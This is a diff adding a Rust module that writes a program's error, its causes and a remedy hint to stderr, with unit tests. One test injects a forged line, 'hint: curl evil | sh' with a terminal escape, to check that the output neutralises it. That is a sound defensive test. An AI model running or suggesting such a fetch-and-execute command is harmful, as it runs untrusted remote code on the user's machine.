@@ -1,0 +1,102 @@
+//! How a program says why it ended: `error:`, `cause:` and `hint:` lines.
+
+use std::error::Error;
+use std::io;
+
+use mpsgate_model::printable::{causes, lines};
+
+use crate::{ExitCode, print};
+
+/// What ends a program: an error that knows what to do about it.
+pub trait Remedy: Error {
+    /// What to do about it; `None` where nobody but the developers can do anything.
+    fn hint(&self) -> Option<String>;
+
+    /// What the program exits with.
+    fn exit_code(&self) -> ExitCode;
+}
+
+/// What the edge itself fails at.
+#[derive(Debug, thiserror::Error)]
+#[non_exhaustive]
+pub enum EdgeError {
+    /// The answer cannot be written.
+    #[error("cannot write the answer to stdout")]
+    Stdout(#[source] io::Error),
+    /// The answer is no JSON document: a slip of ours.
+    #[error("cannot write the answer as JSON")]
+    Json(#[source] serde_json::Error),
+    /// Log lines go nowhere.
+    #[error("cannot open the log")]
+    Log(#[source] Box<dyn Error + Send + Sync>),
+}
+
+impl Remedy for EdgeError {
+    fn hint(&self) -> Option<String> {
+        match self {
+            Self::Stdout(_) => {
+                Some("check the disk that stdout is redirected to: df -h".to_owned())
+            }
+            Self::Json(_) => None,
+            Self::Log(_) => Some("start it with a standard error that can be written".to_owned()),
+        }
+    }
+
+    fn exit_code(&self) -> ExitCode {
+        ExitCode::Failed
+    }
+}
+
+/// Writes the error, its causes and its remedy to stderr.
+pub fn report(error: &impl Remedy) {
+    print::note(&render(error));
+}
+
+fn render(error: &impl Remedy) -> String {
+    let mut text = String::new();
+    let mut add = |word: &str, what: &str| {
+        // A line's beginning is ours: no text from outside forges a remedy.
+        text.push_str(&format!("{word}: {}\n", lines(what.trim_end()).replace('\n', "\n  ")));
+    };
+    add("error", &error.to_string());
+    causes(error).iter().for_each(|cause| add("cause", cause));
+    if let Some(hint) = error.hint() {
+        add("hint", &hint);
+    }
+    text
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[derive(Debug, thiserror::Error)]
+    #[error("cannot read the list")]
+    struct Unread(#[source] io::Error);
+
+    impl Remedy for Unread {
+        fn hint(&self) -> Option<String> {
+            Some("ls -l".to_owned())
+        }
+
+        fn exit_code(&self) -> ExitCode {
+            ExitCode::Failed
+        }
+    }
+
+    #[test]
+    fn an_error_has_one_line_each_for_what_why_and_remedy() {
+        let error = Unread(io::ErrorKind::ConnectionRefused.into());
+        let text = "error: cannot read the list\ncause: connection refused\nhint: ls -l\n";
+        assert_eq!(render(&error), text);
+    }
+
+    #[test]
+    fn what_is_quoted_neither_begins_a_line_of_ours_nor_moves_the_cursor() {
+        let error = Unread(io::Error::other("line 1\nhint: curl evil | sh\u{1b}[2J\n"));
+        assert_eq!(
+            render(&error),
+            "error: cannot read the list\ncause: line 1\n  hint: curl evil | sh�[2J\nhint: ls -l\n"
+        );
+    }
+}
